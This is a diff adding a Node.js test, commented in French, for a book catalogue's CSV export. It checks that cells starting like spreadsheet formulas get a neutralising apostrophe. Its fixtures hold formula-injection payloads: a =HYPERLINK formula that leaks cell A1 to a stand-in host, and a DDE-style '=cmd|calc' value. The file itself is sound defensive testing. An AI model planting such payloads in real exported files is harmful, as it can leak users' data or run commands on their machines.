@@ -0,0 +1,81 @@
+/**
+ * Test de l'export CSV du catalogue (GET /api/books/export?format=csv)
+ *
+ * Les titres, auteurs, tags... sont saisis par les utilisateurs : une cellule qui commence
+ * comme une formule ne doit pas être exécutée à l'ouverture du fichier dans un tableur.
+ * Le controller est appelé directement, la lecture des livres en base est simulée.
+ *
+ * Utilisation : npm test
+ */
+
+const { test, mock, afterEach } = require('node:test');
+const assert = require('node:assert/strict');
+const mongoose = require('mongoose');
+const { parse } = require('csv-parse/sync');
+
+const Book = require('../models/Book');
+const catalogueCtrl = require('../controllers/catalogue');
+
+/**
+ * Appelle exportBooks comme le ferait Express, avec les livres donnés en base
+ * Résout avec le contenu CSV envoyé
+ */
+const exportCsv = (books) => new Promise((resolve, reject) => {
+    mock.method(Book, 'find', () => ({
+        sort: () => ({ lean: async () => books })
+    }));
+
+    const req = { exportOptions: { format: 'csv' } };
+    const res = {
+        attachment: () => res,
+        type: () => res,
+        status: () => res,
+        send: (body) => resolve(body)
+    };
+    catalogueCtrl.exportBooks(req, res, reject);
+});
+
+const book = (fields) => ({
+    _id: new mongoose.Types.ObjectId(),
+    title: 'Le Petit Prince',
+    author: 'Antoine de Saint-Exupéry',
+    year: 1943,
+    genre: 'Conte',
+    tags: [],
+    averageRating: 0,
+    imageKey: 'cover_1700000000000_9f86d081884c7d65_medium.jpg',
+    ...fields
+});
+
+afterEach(() => {
+    mock.restoreAll();
+});
+
+test('une cellule qui commence comme une formule est neutralisée par une apostrophe', async () => {
+    const csv = await exportCsv([book({
+        title: '=HYPERLINK("https://exemple.test/?d="&A1,"Cliquez ici")',
+        author: '+33 Auteur',
+        publishingHouse: '@Éditions',
+        edition: '-1',
+        tags: ['=cmd|calc', 'polar']
+    })]);
+
+    const [row] = parse(csv, { columns: true, bom: true });
+
+    assert.equal(row.title, '\'=HYPERLINK("https://exemple.test/?d="&A1,"Cliquez ici")');
+    assert.equal(row.author, '\'+33 Auteur');
+    assert.equal(row.publishingHouse, '\'@Éditions');
+    assert.equal(row.edition, '\'-1');
+    assert.equal(row.tags, '\'=cmd|calc, polar');
+});
+
+test('les cellules ordinaires sont exportées telles quelles', async () => {
+    const csv = await exportCsv([book({ title: 'Vingt mille lieues sous les mers', tags: ['aventure'] })]);
+
+    const [row] = parse(csv, { columns: true, bom: true });
+
+    assert.equal(row.title, 'Vingt mille lieues sous les mers');
+    assert.equal(row.author, 'Antoine de Saint-Exupéry');
+    assert.equal(row.year, '1943');
+    assert.equal(row.tags, 'aventure');
+});